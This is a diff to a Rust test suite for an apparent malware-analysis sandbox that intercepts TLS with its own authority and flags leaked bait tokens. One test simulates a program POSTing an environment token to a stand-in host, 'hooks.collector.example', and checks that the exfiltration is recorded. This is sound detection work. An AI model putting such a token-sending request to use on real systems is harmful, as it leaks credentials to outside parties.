@@ -661,7 +661,12 @@ async fn a_client_hello_is_recorded_and_the_connection_closed() {
             (addr, started.elapsed(), end)
         })
         .await;
-    assert!(matches!(end, End::Eof | End::Reset), "{end:?}");
+    // Closed, or refused with a TLS alert record (content type 21).
+    assert!(
+        matches!(&end, End::Eof | End::Reset)
+            || matches!(&end, End::Data(d) if d.first() == Some(&21)),
+        "{end:?}"
+    );
     assert!(
         took < IDLE,
         "closed after {took:?}: by the idle timeout, not the server"
@@ -676,6 +681,9 @@ async fn a_client_hello_is_recorded_and_the_connection_closed() {
     assert_eq!(t.address, addr.to_string());
     assert_eq!(t.port, 443);
     assert_eq!(t.hostname, "tls.evil.example");
+    // A hello with no key share and no signature schemes: no session.
+    assert!(!t.intercepted);
+    assert!(!t.handshake_error.is_empty());
     assert_eq!(c.connections.len(), 1);
     let conn = &c.connections[0];
     assert_eq!(conn.protocol, "tls");
@@ -683,6 +691,133 @@ async fn a_client_hello_is_recorded_and_the_connection_closed() {
     assert_eq!(conn.sha256, sha256(&hello));
     assert_eq!(conn.port, 443);
     assert!(c.http_requests.is_empty());
+    net.remove().await;
+}
+
+/// The DER inside a PEM certificate.
+fn pem_der(pem: &str) -> Vec<u8> {
+    let b64: String = pem
+        .lines()
+        .filter(|l| !l.starts_with("-----"))
+        .collect::<Vec<_>>()
+        .concat();
+    STANDARD.decode(b64).expect("a PEM certificate")
+}
+
+/// A TLS client as a program in the sandbox would make it: trusting
+/// `roots` only.
+fn tls_client(roots: &[Vec<u8>]) -> Arc<rustls::ClientConfig> {
+    let mut store = rustls::RootCertStore::empty();
+    for der in roots {
+        store
+            .add(rustls::pki_types::CertificateDer::from(der.clone()))
+            .expect("a root");
+    }
+    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
+    Arc::new(
+        rustls::ClientConfig::builder_with_provider(provider)
+            .with_safe_default_protocol_versions()
+            .expect("protocol versions")
+            .with_root_certificates(store)
+            .with_no_client_auth(),
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn https_is_intercepted_recorded_and_a_bait_inside_is_proof() {
+    let net = Net::start("https", vec![token()]).await;
+    let ca = net.host.as_ref().expect("the host").ca_pem().to_owned();
+    assert!(ca.starts_with("-----BEGIN CERTIFICATE-----"), "{ca}");
+    assert!(!ca.contains("PRIVATE KEY"));
+    let config = tls_client(&[pem_der(&ca)]);
+    let (addr, answer) = net
+        .run(move || {
+            let addr = resolve("hooks.collector.example");
+            let mut tcp = connect((addr, 443));
+            let name = "hooks.collector.example".try_into().unwrap();
+            let mut tls = rustls::ClientConnection::new(config, name).unwrap();
+            let mut s = rustls::Stream::new(&mut tls, &mut tcp);
+            let body = format!("{{\"token\":\"{TOKEN}\"}}");
+            write!(
+                s,
+                "POST /hook?id=7 HTTP/1.1\r\nHost: hooks.collector.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            )
+            .unwrap();
+            let mut out = Vec::new();
+            s.read_to_end(&mut out).expect("a clean close_notify");
+            (addr, String::from_utf8_lossy(&out).into_owned())
+        })
+        .await;
+    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
+    let c = net
+        .records(|c| !c.exfiltrations.is_empty() && !c.connections.is_empty())
+        .await;
+    assert_eq!(c.tls.len(), 1, "{:?}", c.tls);
+    let t = &c.tls[0];
+    assert_eq!(t.sni, "hooks.collector.example");
+    assert!(t.intercepted, "{t:?}");
+    assert_eq!(t.handshake_error, "");
+    let r = c
+        .http_requests
+        .iter()
+        .find(|r| r.via == "catch-all-tls")
+        .unwrap_or_else(|| panic!("{:?}", c.http_requests));
+    assert_eq!(r.method, "POST");
+    assert_eq!(r.host, "hooks.collector.example");
+    assert_eq!(r.path, "/hook?id=7");
+    assert_eq!(r.port, 443);
+    assert_eq!(r.address, addr.to_string());
+    assert_eq!(r.hostname, "hooks.collector.example");
+    assert_eq!(r.response_status, 200);
+    assert!(r
+        .headers
+        .iter()
+        .any(|h| h.name.eq_ignore_ascii_case("content-type")));
+    assert!(String::from_utf8_lossy(&r.body_head).contains(TOKEN));
+    let e = &c.exfiltrations[0];
+    assert_eq!(e.bait, "env:TOKEN");
+    assert!(e.channel.contains("hooks.collector.example"), "{e:?}");
+    assert!(e.channel.contains("body"), "{e:?}");
+    let conn = &c.connections[0];
+    assert_eq!(conn.protocol, "https");
+    assert!(conn.head.starts_with(b"POST /hook"), "{:?}", conn.head);
+    net.remove().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_client_that_pins_refuses_the_handshake_and_the_refusal_is_recorded() {
+    let net = Net::start("pinned", vec![token()]).await;
+    // The client trusts its own authority only (as a pinning client, or
+    // one with built-in roots, does): not the analysis's.
+    let ca = net.host.as_ref().expect("the host").ca_pem().to_owned();
+    let other = Net::start("pinned-other", vec![]).await;
+    let theirs = other.host.as_ref().expect("the host").ca_pem().to_owned();
+    assert_ne!(ca, theirs, "every analysis has its own authority");
+    let config = tls_client(&[pem_der(&theirs)]);
+    let outcome = net
+        .run(move || {
+            let addr = resolve("pinned.example");
+            let mut tcp = connect((addr, 443));
+            let name = "pinned.example".try_into().unwrap();
+            let mut tls = rustls::ClientConnection::new(config, name).unwrap();
+            let mut s = rustls::Stream::new(&mut tls, &mut tcp);
+            s.write_all(format!("GET /?t={TOKEN} HTTP/1.1\r\n\r\n").as_bytes())
+                .map_err(|e| e.to_string())
+        })
+        .await;
+    let error = outcome.expect_err("the handshake must fail");
+    assert!(error.contains("UnknownIssuer"), "{error}");
+    let c = net
+        .records(|c| !c.tls.is_empty() && !c.connections.is_empty())
+        .await;
+    let t = &c.tls[0];
+    assert!(!t.intercepted);
+    assert!(t.handshake_error.contains("refused"), "{t:?}");
+    assert_eq!(c.connections[0].protocol, "tls");
+    assert!(c.http_requests.is_empty(), "{:?}", c.http_requests);
+    assert!(c.exfiltrations.is_empty(), "nothing was sent in the clear");
+    other.remove().await;
     net.remove().await;
 }
 
